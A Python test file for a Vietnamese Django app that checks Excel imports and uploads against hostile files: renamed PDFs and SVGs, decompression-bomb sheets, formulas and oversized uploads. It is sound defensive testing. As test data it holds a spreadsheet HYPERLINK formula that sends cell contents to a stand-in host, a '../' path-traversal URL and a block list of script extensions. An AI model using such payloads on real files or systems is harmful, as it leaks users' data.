"""Hostile input: every Excel import and every upload, fed what people and attackers really send.

Whatever the file (random bytes, a PDF or an SVG renamed .xlsx, an .xls, an empty workbook,
merged cells, formulas, Excel serial dates, 100.000 rows, a million blank rows), an import
answers with its page and a Vietnamese message, never a 500, and writes nothing unless the
whole file is good. Uploads take only the types they name, checked by content and size;
downloads are attachments with nosniff; private media is never served from a public folder.
Property-based cases use hypothesis with few, small examples so the file stays quick.
"""

import datetime
import io
import re
from dataclasses import dataclass

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.datetime import from_excel

from hoptac.awards.tests.conftest import awards_staff, decision  # noqa: F401 (fixtures)
from hoptac.core import xlsx
from hoptac.core.tests import hostile_files as hf
from hoptac.fund.tests.conftest import fund_staff  # noqa: F401 (fixture)
from hoptac.training.tests.conftest import course, managers_planned, plan, training_staff  # noqa: F401 (fixtures)

VIETNAMESE = re.compile(r"[ăâđêôơưàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ]", re.IGNORECASE)
XLSX_TYPE = xlsx.XLSX_CONTENT_TYPE
FEW = hypothesis_settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)

# Each example of an importer-level property is a request: fewer of them.
PER_IMPORTER = hypothesis_settings(FEW, max_examples=8)


def vietnamese(message: str) -> bool:
    return bool(VIETNAMESE.search(message)) and "Traceback" not in message


@pytest.fixture(autouse=True)
def _in_vietnamese():
    with translation.override("vi"):
        yield


# ---------------------------------------------------------------- the shared reader, without a request

BOOK = xlsx.Book(
    key="thu",
    sheet="Dữ liệu",
    title="Thử",
    columns=(
        xlsx.Column("code", "Mã số", 14, xlsx.CODE),
        xlsx.Column("name", "Tên", 30),
        xlsx.Column("on", "Ngày", 12, xlsx.DATE),
        xlsx.Column("amount", "Số tiền", 16, xlsx.MONEY),
        xlsx.Column("members", "Số thành viên", 10, xlsx.INT, required=False),
    ),
)
HEADERS = BOOK.headers


def read(content: bytes, name: str = "du-lieu.xlsx") -> xlsx.Sheet:
    return xlsx.read_book(BOOK, io.BytesIO(content), name)


def refused(content: bytes) -> str:
    with pytest.raises(xlsx.FileProblem) as problem:
        read(content)
    message = str(problem.value)
    assert vietnamese(message), message
    return message


@FEW
@given(st.binary(max_size=2048))
def test_random_bytes_are_refused_in_vietnamese(content):
    message = refused(content)
    assert "không phải tệp Excel" in message or "Không đọc được" in message or "97-2003" in message


@FEW
@given(st.binary(max_size=2048))
def test_random_bytes_that_look_like_a_zip_are_refused_in_vietnamese(content):
    assert "Không đọc được tệp" in refused(hf.ZIP_MAGIC_PREFIX + content)


@pytest.mark.parametrize(
    "content, expected",
    [
        (hf.PDF, "không phải tệp Excel .xlsx"),
        (hf.HTML, "không phải tệp Excel .xlsx"),
        (hf.SVG, "không phải tệp Excel .xlsx"),
        (b"", "không phải tệp Excel .xlsx"),
        (hf.OLE, "Excel 97-2003"),
        (hf.ZIP_NOT_XLSX, "Không đọc được tệp"),
        (hf.truncated(hf.sheet("Dữ liệu", HEADERS, [["1", "A", "01/01/2021", "1"]] * 50)), "Không đọc được tệp"),
        (hf.empty_workbook(), "Không tìm thấy dòng tiêu đề"),
        (hf.sheet("Dữ liệu", HEADERS), "không có dòng dữ liệu nào"),
        (hf.sheet("Dữ liệu", ["Cột lạ", "Tên", "Mã số"], [["a", "b", "c"]]), "thiếu cột bắt buộc"),
        (hf.merged("Dữ liệu", HEADERS, [["1", "A", "01/01/2021", "1"]] * 3, header=True), "thiếu cột bắt buộc “Tên”"),
    ],
    ids=[
        "pdf",
        "html",
        "svg",
        "empty-file",
        "xls",
        "zip",
        "truncated",
        "empty-sheet",
        "headers-only",
        "bad-header",
        "merged-header",
    ],
)
def test_files_that_are_not_a_filled_template_are_refused(content, expected):
    assert expected in refused(content)


def test_a_hundred_thousand_rows_are_refused_at_the_row_limit():
    message = refused(hf.many_rows("Dữ liệu", HEADERS, 100_000))
    assert f"hơn {xlsx.MAX_ROWS:,} dòng".replace(",", ".") in message


@pytest.mark.parametrize("bomb", [hf.far_row, hf.blank_rows], ids=["row-1048576", "a-million-empty-rows"])
def test_a_million_blank_rows_are_not_read_to_the_end(bomb):
    """A few KB that unzip to a million rows (9 s of CPU for 14 KB; the 30 MB limit would be hours): refused early."""
    content = bomb("Dữ liệu", HEADERS)
    assert len(content) < 20_000
    assert "kể cả dòng trống" in refused(content)


VALUE = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(min_value=datetime.datetime(1900, 3, 1), max_value=datetime.datetime(9999, 12, 31)),
    st.dates(min_value=datetime.date(1900, 3, 1)),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=30),
    st.sampled_from(hf.FORMULA_TEXTS),
)


@FEW
@given(st.lists(st.tuples(*[VALUE] * len(HEADERS)), min_size=1, max_size=4))
def test_cells_of_any_type_become_values_or_vietnamese_row_errors(rows):
    """read_row never raises: every cell is read by its column or reported by row and column."""
    errors: list[xlsx.RowError] = []
    sheet = xlsx.Sheet(name="Dữ liệu", columns={c.key: i for i, c in enumerate(BOOK.columns)}, rows=[])
    for number, values in enumerate(rows, start=2):
        data = xlsx.read_row(BOOK, sheet, values, errors, number)
        assert isinstance(data.get("name", ""), str) and isinstance(data.get("code", ""), str)
        assert data.get("on") is None or isinstance(data["on"], datetime.date)
        amount = data.get("amount")
        assert amount is None or (isinstance(amount, int) and 0 <= amount <= xlsx.MONEY_MAX)
    for error in errors:
        assert error.row is not None and error.column in HEADERS
        assert vietnamese(str(error)) and str(error).startswith(f"Dòng {error.row}, cột ")


@FEW
@given(st.integers(min_value=1, max_value=2_958_465))
def test_excel_serial_dates_are_read_as_dates(serial):
    """A date column holding Excel's day number, as a number or as its text, is the same day."""
    expected = from_excel(serial).date()
    assert xlsx.read_date(serial) == expected
    if 10_000 <= serial <= 99_999:  # text of five digits is a serial; other digit strings are not dates
        assert xlsx.read_date(str(serial)) == expected


def test_a_serial_date_in_a_file_is_read_as_that_day():
    sheet = read(hf.sheet("Dữ liệu", HEADERS, [["2400000001", "HTX Thử", 44197, 500_000]]))
    errors: list[xlsx.RowError] = []
    data = xlsx.read_row(BOOK, sheet, sheet.rows[0][1], errors, 2)
    assert errors == [] and data["on"] == datetime.date(2021, 1, 1)


def test_formulas_are_never_evaluated_and_formula_text_stays_text():
    """A formula has no value for the import (openpyxl does not compute); the same text typed as text is kept as is."""
    as_formulas = hf.sheet("Dữ liệu", HEADERS, [[f, f, "01/01/2021", "=1+1"] for f in hf.FORMULA_TEXTS[:2]])
    sheet = read(as_formulas)
    errors: list[xlsx.RowError] = []
    rows = [xlsx.read_row(BOOK, sheet, values, errors, number) for number, values in sheet.rows]
    assert all(row["name"] == "" and row["amount"] is None for row in rows)
    assert {e.column for e in errors} == {"Mã số", "Tên", "Số tiền"} and all(vietnamese(str(e)) for e in errors)

    as_text = hf.sheet("Dữ liệu", HEADERS, [["1", f, "01/01/2021", "1"] for f in hf.FORMULA_TEXTS], as_text=True)
    sheet = read(as_text)
    names = [xlsx.read_row(BOOK, sheet, values, [], number)["name"] for number, values in sheet.rows]
    assert names == [f.strip() for f in hf.FORMULA_TEXTS]


def test_merged_cells_keep_only_their_first_value():
    """Rows 2-3 merged across the sheet: row 2 keeps its cells in the first column only, row 3 is blank."""
    sheet = read(
        hf.merged("Dữ liệu", HEADERS, [["2400000001", "HTX Thử", "01/01/2021", "1"], ["2400000002", "B", "", "2"]])
    )
    assert [number for number, _ in sheet.rows] == [2]
    errors: list[xlsx.RowError] = []
    data = xlsx.read_row(BOOK, sheet, sheet.rows[0][1], errors, 2)
    assert data["code"] == "2400000001"
    assert {e.column for e in errors} == {"Tên", "Ngày", "Số tiền"} and all(vietnamese(str(e)) for e in errors)


# ---------------------------------------------------------------- every importer, through its page


@dataclass
class Importer:
    """One import page: who uses it, where it posts, its template, and the tables it may write."""

    client: object
    url: str
    template_url: str
    data: dict
    app_labels: tuple[str, ...]

    def post(self, content: bytes, name: str = "du-lieu.xlsx"):
        upload = SimpleUploadedFile(name, content, content_type=XLSX_TYPE)
        return self.client.post(self.url, {**self.data, "file": upload})

    def count(self) -> int:
        # --- several servers (issue #9): the registry's import records each upload as a job
        # (registry.ImportJob, with its errors): the record of the attempt, not imported data.
        return sum(
            model._default_manager.count()
            for label in self.app_labels
            for model in apps.get_app_config(label).get_models()
            if model._meta.label != "registry.ImportJob"
        )
        # --- end several servers

    def template(self) -> tuple[str, list]:
        response = self.client.get(self.template_url)
        assert response.status_code == 200
        return hf.template_headers(response.content)


IMPORTERS = ["registry", "awards", "training", "returns", "fund-capital", "fund-loans", "fund-repayments"]


@pytest.fixture(params=IMPORTERS)
def importer(request, client, db) -> Importer:
    kind = request.param
    get = request.getfixturevalue
    if kind == "registry":
        client.force_login(get("staff"))
        spec = Importer(client, reverse("registry:import"), reverse("registry:template"), {}, ("registry",))
    elif kind == "awards":
        client.force_login(get("awards_staff"))
        pk = get("decision").pk
        spec = Importer(
            client,
            reverse("awards:recipient_import", args=[pk]),
            reverse("awards:recipient_template"),
            {"action": "import"},
            ("awards",),
        )
    elif kind == "training":
        client.force_login(get("training_staff"))
        pk = get("course").pk
        spec = Importer(
            client,
            reverse("training:import", args=[pk]),
            reverse("training:import_template", args=[pk]),
            {},
            ("training",),
        )
    elif kind == "returns":
        get("org_tan_yen")
        client.force_login(get("staff"))
        args = ["annual_htx", "2020"]
        spec = Importer(
            client,
            reverse("returns:import", args=args),
            reverse("returns:template", args=args),
            {"action": "import"},
            ("returns",),
        )
    else:
        book = kind.split("-")[1]
        client.force_login(get("fund_staff"))
        spec = Importer(
            client,
            reverse("fund:import"),
            reverse("fund:import_template", kwargs={"book": book}),
            {"book": book},
            ("fund",),
        )
    return spec


def assert_refused(importer: Importer, response, before: int, *expected: str) -> str:
    """The import page again (not a 500), a Vietnamese message, and not a row written."""
    assert response.status_code in (200, 400), response.status_code
    html = response.content.decode()
    assert 'type="file"' in html, "the page with its upload form"
    assert "Traceback" not in html and "Exception" not in html
    assert importer.count() == before
    if expected:
        assert any(text in html for text in expected), f"none of {expected} in the page"
    return html


NOT_XLSX = ("không phải tệp Excel .xlsx", "Không đọc được tệp", "Excel 97-2003")


@pytest.mark.parametrize(
    "content, name",
    [
        (hf.PDF, "bao-cao.xlsx"),
        (hf.HTML, "trang.xlsx"),
        (hf.SVG, "hinh.xlsx"),
        (hf.OLE, "cu.xlsx"),
        (hf.ZIP_NOT_XLSX, "nen.xlsx"),
        (b"MZ\x90\x00\x03\x00\x00\x00", "chuong-trinh.xlsx"),
    ],
    ids=["pdf", "html", "svg", "xls", "zip", "exe"],
)
def test_a_file_that_is_not_xlsx_is_refused_by_every_importer(importer, content, name):
    before = importer.count()
    assert_refused(importer, importer.post(content, name), before, *NOT_XLSX)


def test_broken_and_empty_workbooks_are_refused_by_every_importer(importer):
    sheet_name, headers = importer.template()
    cases = [
        (hf.truncated(hf.sheet(sheet_name, headers, [["x"] * len(headers)] * 40)), NOT_XLSX),
        (hf.empty_workbook(), ("Không tìm thấy dòng tiêu đề", "Dòng tiêu đề không đúng mẫu")),
        (hf.sheet(sheet_name, headers), ("không có dòng dữ liệu nào",)),
    ]
    for content, expected in cases:
        before = importer.count()
        assert_refused(importer, importer.post(content), before, *expected)


def test_a_hundred_thousand_rows_are_refused_by_every_importer(importer):
    sheet_name, headers = importer.template()
    content = hf.many_rows(sheet_name, headers, 100_000)
    before = importer.count()
    assert_refused(importer, importer.post(content), before, "dòng dữ liệu; hãy chia thành nhiều tệp")


def test_a_million_blank_rows_are_refused_by_every_importer(importer):
    sheet_name, headers = importer.template()
    # 150.000 empty rows (not a million) are enough to pass the limit and keep the test short.
    content = hf.blank_rows(sheet_name, headers, 150_000)
    before = importer.count()
    assert_refused(importer, importer.post(content), before, "kể cả dòng trống")


def test_formulas_and_merged_cells_write_nothing_in_any_importer(importer):
    """Formulas have no value for an import (required cells are then blank); merged rows are blank under the merge."""
    sheet_name, headers = importer.template()
    formulas = [[hf.FORMULA_TEXTS[i % 3] for i in range(len(headers))] for _ in range(3)]
    for content in (hf.sheet(sheet_name, headers, formulas), hf.merged(sheet_name, headers, formulas)):
        before = importer.count()
        html = assert_refused(importer, importer.post(content), before)
        assert "Dòng " in html or "không có dòng dữ liệu nào" in html


@PER_IMPORTER
@given(content=st.binary(max_size=1024))
def test_random_bytes_renamed_xlsx_are_refused_by_every_importer(importer, content):
    before = importer.count()
    assert_refused(importer, importer.post(content), before, *NOT_XLSX)


@PER_IMPORTER
@given(rows=st.lists(st.lists(VALUE, min_size=12, max_size=12), min_size=1, max_size=3))
def test_cells_of_wrong_types_are_all_or_nothing_in_every_importer(importer, rows):
    """Whatever the cells hold, the page answers; if anything is wrong nothing is written, else every row is."""
    sheet_name, headers = importer.template()
    content = hf.sheet(sheet_name, headers, [row[: len(headers)] for row in rows], as_text=True)
    before = importer.count()
    response = importer.post(content)
    assert response.status_code in (200, 400)
    html = response.content.decode()
    assert 'type="file"' in html and "Traceback" not in html
    if importer.count() != before:  # accepted: then no error was shown for any row
        assert "Dòng " not in html or "cột" not in html


# ---------------------------------------------------------------- user text exported back to Excel


FORMULA_NAME = '=HYPERLINK("http://example.invalid/?c="&A1,"Bấm vào đây")'


def test_registry_export_writes_a_formula_looking_name_as_text(client, staff, org_tan_yen):
    org_tan_yen.name = FORMULA_NAME
    org_tan_yen.save(update_fields=["name"])
    client.force_login(staff)
    response = client.get(reverse("registry:export"))
    cells = [c for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows() for c in row]
    cell = next(c for c in cells if c.value == FORMULA_NAME)
    assert cell.data_type == "s"


def test_training_export_writes_a_formula_looking_name_as_text(client, training_staff, course):  # noqa: F811
    from hoptac.training import services

    services.participant_add(
        course=course, full_name=FORMULA_NAME, organization_name="Không rõ", by=training_staff, position="Xã viên"
    )
    client.force_login(training_staff)
    response = client.get(reverse("training:course_export", args=[course.pk]))
    cells = [c for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows() for c in row]
    cell = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert cell.data_type == "s"


# ---------------------------------------------------------------- uploads


HOSTILE_UPLOADS = [
    ("thu-moi.pdf", hf.HTML, "type-or-content"),
    ("anh.png", hf.SVG, "type-or-content"),
    ("anh.svg", hf.SVG, "type-or-content"),
    ("trang.html", hf.HTML, "type-or-content"),
    ("bao-cao.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024 + 1), "size"),
]


def _checks():
    from hoptac.fund.forms import check_attachment
    from hoptac.journal.forms import check_document_file

    # check_document_file: journal documents and award proposals; check_attachment: fund appraisals.
    return {"document": check_document_file, "attachment": check_attachment}


@pytest.mark.parametrize("check", ["document", "attachment"])
@pytest.mark.parametrize("name, content, kind", HOSTILE_UPLOADS, ids=[u[0] for u in HOSTILE_UPLOADS])
def test_upload_checks_refuse_script_files_and_oversize_in_vietnamese(check, name, content, kind):
    with pytest.raises(ValidationError) as refusal:
        _checks()[check](SimpleUploadedFile(name, content))
    message = " ".join(refusal.value.messages)
    assert vietnamese(message), message
    if kind == "size":
        assert "10 MB" in message


@pytest.mark.parametrize("name, content", [("anh.png", hf.SVG), ("to-trinh.pdf", hf.HTML)])
def test_proposal_and_document_forms_refuse_a_script_file(client, awards_staff, media, name, content):  # noqa: F811
    from hoptac.awards.models import Proposal

    client.force_login(awards_staff)
    data = {
        "title": "Đề nghị khen thưởng",
        "year": "2021",
        "issuer": "province",
        "form": "flag",
        "drafted_on": "06/01/2021",
        "file": SimpleUploadedFile(name, content),
    }
    response = client.post(reverse("awards:proposal_create"), data)
    assert response.status_code == 200
    assert vietnamese(" ".join(response.context["form"].errors["file"]))
    assert not Proposal.objects.exists()


@pytest.mark.parametrize(
    "name, content", [("mau.docx", hf.HTML), ("mau.docx", hf.SVG), ("mau.docx", hf.ZIP_NOT_XLSX), ("mau.docx", b"PK")]
)
def test_word_template_upload_refuses_what_is_not_a_working_docx(client, admin, media, name, content):
    from hoptac.briefing.models import WordTemplate

    client.force_login(admin)
    response = client.post(reverse("briefing:word_template"), {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    assert vietnamese(" ".join(response.context["form"].errors["file"]))
    assert not WordTemplate.objects.exists()


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def test_uploaded_files_are_downloaded_as_attachments_with_nosniff(client, awards_staff, media):  # noqa: F811
    from hoptac.awards.models import Proposal

    client.force_login(awards_staff)
    data = {
        "title": "Đề nghị khen thưởng",
        "year": "2021",
        "issuer": "province",
        "form": "flag",
        "drafted_on": "06/01/2021",
        "file": SimpleUploadedFile("to-trinh.pdf", hf.PDF),
    }
    assert client.post(reverse("awards:proposal_create"), data).status_code == 302
    download = client.get(reverse("awards:proposal_file", args=[Proposal.objects.get().pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Type"] == "application/pdf"


def test_media_is_private_and_apart_from_static(client, media):
    media_root = django_settings.MEDIA_ROOT
    static_root = django_settings.STATIC_ROOT
    assert not str(media_root).startswith(str(static_root)) and not str(static_root).startswith(str(media_root))
    for folder in ("reports/2021", "fund/appraisals/2021", "awards/proposals/2021", "journal/documents/2021"):
        (media / folder).mkdir(parents=True)
        (media / folder / "bi-mat.pdf").write_bytes(hf.PDF)
        assert client.get(f"/media/{folder}/bi-mat.pdf").status_code == 404
    assert client.get("/media/images/../reports/2021/bi-mat.pdf").status_code == 404


def test_portal_uploads_take_no_script_types():
    """Wagtail documents and images: no HTML, SVG or script extension is accepted; documents go through Django."""
    risky = {"html", "htm", "svg", "svgz", "xml", "xhtml", "js", "mjs", "php", "exe"}
    assert not risky & set(django_settings.WAGTAILDOCS_EXTENSIONS)
    assert not risky & set(django_settings.WAGTAILIMAGES_EXTENSIONS)
    assert django_settings.WAGTAILDOCS_SERVE_METHOD == "serve_view"
    assert django_settings.SECURE_CONTENT_TYPE_NOSNIFF is True


def test_portal_image_folder_never_serves_active_content(client, media):
    (media / "original_images").mkdir(parents=True)
    (media / "original_images" / "x.svg").write_bytes(hf.SVG)
    response = client.get("/media/original_images/x.svg")
    assert response.status_code == 404 or (
        response["Content-Type"].split(";")[0] not in ("image/svg+xml", "text/html", "application/xhtml+xml")
    )
